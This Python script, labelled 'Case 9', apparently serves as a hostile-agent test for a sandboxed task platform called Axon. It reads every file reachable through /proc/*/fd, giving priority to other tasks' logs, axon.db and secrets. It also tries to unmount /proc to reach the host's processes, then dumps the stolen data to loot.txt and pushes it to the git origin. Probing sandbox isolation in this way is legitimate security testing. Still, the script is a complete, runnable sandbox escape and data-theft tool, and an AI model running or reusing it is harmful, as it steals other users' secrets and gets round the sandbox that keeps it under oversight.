#!/usr/bin/python3
# Case 9: enumerate /proc/*/fd (the sandbox's /proc, then the host's after unmounting it) and
# read every regular file any descriptor points at, looking for Axon's descriptors (another
# Task's log, axon.db, secrets); the haul goes to the log and is pushed.
import os, stat, subprocess

task = os.environ.get("AXON_TASK", "")
haul = []
taken = set()
budget = [32_000_000]

def sweep(label):
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        fd_dir = f"/proc/{pid}/fd"
        try:
            fds = os.listdir(fd_dir)
        except OSError:
            continue
        for fd in fds:
            try:
                found.append((f"{fd_dir}/{fd}", os.readlink(f"{fd_dir}/{fd}")))
            except OSError:
                pass
    # Axon's own files first: the budget must not go to unrelated processes' files.
    found.sort(key=lambda f: "axon" not in f[1])
    seen = 0
    for path, target in found:
        try:
            h = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            st = os.fstat(h)
            key = (st.st_dev, st.st_ino)
            if stat.S_ISREG(st.st_mode) and key not in taken and budget[0] > 0:
                taken.add(key)
                data = os.pread(h, min(1_000_000, budget[0]), 0)
                budget[0] -= len(data)
                haul.append(f"== {label} {path} -> {target}\n".encode() + data)
                seen += 1
        except OSError:
            pass
        finally:
            os.close(h)
    print(f"{label}: {len(found)} descriptors, read {seen} files", flush=True)


sweep("sandbox-proc")
r = subprocess.run(["umount", "-l", "/proc"], capture_output=True)
print(f"attempt umount-proc: {'WORKED' if r.returncode == 0 else 'blocked'}", flush=True)
sweep("after-umount")

with open("loot.txt", "wb") as f:
    for h in haul:
        f.write(h + b"\n")
print("--- loot", flush=True)
with open("loot.txt", "rb") as f:
    os.write(1, f.read())
print("\n--- end of loot", flush=True)
git = ["git", "-c", "user.name=Hostile", "-c", "user.email=hostile@example.invalid"]
subprocess.run(["git", "checkout", "-q", "-b", f"loot-{task}"])
subprocess.run(["git", "add", "-A", "."])
subprocess.run(git + ["commit", "-qm", "loot"])
subprocess.run(["git", "push", "-q", "origin", "HEAD"])
print(f"HOSTILE-AGENT-DONE {task}", flush=True)
